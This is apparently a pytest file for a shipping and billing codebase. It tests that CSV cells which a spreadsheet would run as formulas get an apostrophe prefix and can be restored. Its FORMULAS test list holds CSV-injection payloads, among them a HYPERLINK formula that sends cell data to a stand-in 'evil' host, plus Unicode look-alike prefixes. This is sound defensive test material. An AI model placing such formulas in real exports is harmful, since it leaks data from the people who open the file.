"""Cells that go out: no spreadsheet runs them, and what we changed can be told from what was there."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from billing.exports.csv_rows import csv_bytes
from shipments.outgoing.cells import defused, restored
from tests.architecture.sources import sources

FORMULAS = [
    '=HYPERLINK("http://evil?"&A1)', "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠A1", "+1", "-2+3", "-1e5",
    "@SUM(A1)", " =1", "\u00a0=1", "\ufeff=1", "\u200b@x", "-", "-1,5", "--1",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_rule_40_what_a_spreadsheet_would_run_begins_with_an_apostrophe(text):
    assert defused(text) == "'" + text
    assert restored("'" + text) == text
    _, row = csv.reader(io.StringIO(csv_bytes(["x"], [[text]]).decode(), newline=""))
    assert row == ["'" + text]


@pytest.mark.parametrize("text", ["", "a=1", "-1", "-12.50", "1-2", "'", "'tis", "’=1", "O'Hara", "12:30", "é"])
def test_other_texts_and_plain_numbers_stay_as_they_are(text):
    assert (defused(text), restored(text)) == (text, text)


@given(text=st.text(st.sampled_from("=+-@\t\r＝－'1. aé"), max_size=8))
def test_what_was_defused_can_be_read_back(text):
    assert restored(defused(text)) == text or text.startswith("'")
    first = defused(text).lstrip(" \u00a0\ufeff\u200b")[:1]
    assert first not in set("=+@\t\r\n＝＋－＠") and (first != "-" or float(text.strip()) < 1)


def test_one_function_writes_every_table_that_goes_out():
    writers = {source.path for source in sources() if "csv.writer" in source.text or "DictWriter" in source.text}
    # Refused rows of a table go back to whoever sent it, by the same rule; the simulated haulier's mail comes in.
    expected = {
        "billing/exports/csv_rows.py",
        "shipments/formats/error_file.py",
        "shipments/services/mapping_files.py",
        "portal/simulation/messages.py",
    }
    assert writers == expected
